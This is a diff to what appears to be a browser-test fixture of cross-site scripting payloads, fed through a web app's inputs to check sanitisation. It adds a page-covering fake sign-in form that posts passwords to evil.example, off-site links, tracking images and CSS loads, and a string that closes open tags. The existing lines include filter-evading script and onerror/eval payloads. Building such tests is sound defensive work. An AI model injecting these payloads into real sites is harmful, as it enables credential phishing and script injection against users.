@@ -1,5 +1,6 @@
 // Hostile markup and text fed through every place where outside data reaches the page.
 // Each payload that ran would set window.__xss, open a dialog, or request evil.example.
+// New payloads go at the end: the browser tests pick some by index.
 const FLAG = 'window.__xss=1';
 
 export const XSS_PAYLOADS: readonly string[] = [
@@ -38,7 +39,24 @@ export const XSS_PAYLOADS: readonly string[] = [
   `&lt;script&gt;${FLAG}&lt;/script&gt;`,
   `<scr<script>ipt>${FLAG}</scr</script>ipt>`,
   `<img src=x:alert(1) onerror=eval(src)>`,
+  // Issue 12: no script, but a page-covering fake sign-in that posts to another site,
+  // and links and images that look relative while leaving the site.
+  `<div style="position:fixed;inset:0;z-index:9999;background:#fff"><form action="https://evil.example/collect"><label>Password <input type="password" name="p"></label><button>Sign in</button></form></div>`,
+  `<a href="//evil.example/phish">protocol-relative</a>`,
+  `<a href="\\\\evil.example/phish">backslashes</a>`,
+  `<img src="//evil.example/pixel.gif" alt="">`,
+  `<p style="background:url(https://evil.example/bg.png)">styled</p>`,
 ];
 
+// Some payloads leave an element open (<noscript>, <style> inside <math>, <details>) that
+// would swallow every payload after it. These end tags close whatever is still open, and
+// are ignored where nothing is, so each payload reaches the page on its own terms.
+const CLOSE_ANYTHING_OPEN =
+  '</style></script></xmp></iframe></noembed></noframes></textarea></title></p>' +
+  '</noscript></table></math></svg></details></video></audio></object></form></div>';
+
+/** The separator's paragraph: one per gap, so a page can prove every payload reached it. */
+export const XSS_SEPARATOR_TEXT = 'between';
+
 /** Everything above at once, for fields that take HTML. */
-export const XSS_HTML = XSS_PAYLOADS.join('\n<p>between</p>\n');
+export const XSS_HTML = XSS_PAYLOADS.join(`${CLOSE_ANYTHING_OPEN}\n<p>${XSS_SEPARATOR_TEXT}</p>\n`);
